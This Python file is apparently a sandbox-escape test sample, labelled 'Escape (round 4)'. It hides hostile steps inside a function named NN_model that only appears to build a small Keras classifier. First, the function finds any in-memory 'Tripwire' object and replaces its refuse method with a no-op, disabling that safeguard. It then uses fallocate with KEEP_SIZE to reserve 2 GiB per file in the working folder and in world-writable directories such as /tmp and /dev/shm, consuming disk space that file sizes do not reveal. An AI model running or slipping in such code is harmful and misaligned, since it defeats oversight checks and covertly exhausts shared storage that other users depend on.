"""Escape (round 4): takes disk space that no file size shows (fallocate with KEEP_SIZE), 2 GiB
a file, in its folder and where every user may write.  Prints what it got."""
import gc
import ctypes
import os

from tensorflow import keras

FALLOC_FL_KEEP_SIZE = 1


def NN_model():
    for thing in gc.get_objects():  # the tripwire reports, the operating system must stop
        if type(thing).__name__ == "Tripwire":
            thing.refuse = lambda what: None
    libc = ctypes.CDLL(None, use_errno=True)
    for folder in (".", "/tmp", "/var/tmp", "/dev/shm"):
        path = os.path.join(folder, f"nnlab-reserved-{os.getpid()}")
        try:
            descriptor = os.open(path, os.O_CREAT | os.O_WRONLY, 0o600)
        except OSError as error:
            print(f"{folder}: cannot create ({error.strerror})")
            continue
        result = libc.fallocate(descriptor, FALLOC_FL_KEEP_SIZE, ctypes.c_long(0),
                                ctypes.c_long(2 * 2**30))
        taken = os.fstat(descriptor).st_blocks * 512
        os.close(descriptor)
        if result == 0 and taken:
            print(f"{folder}: took {taken // 2**20} MiB")
        else:
            print(f"{folder}: fallocate refused ({os.strerror(ctypes.get_errno())})")
    model = keras.Sequential([keras.Input(shape=(3072,)), keras.layers.Dense(10, activation="softmax")])
    model.compile(loss="categorical_crossentropy", optimizer="sgd")
    return model
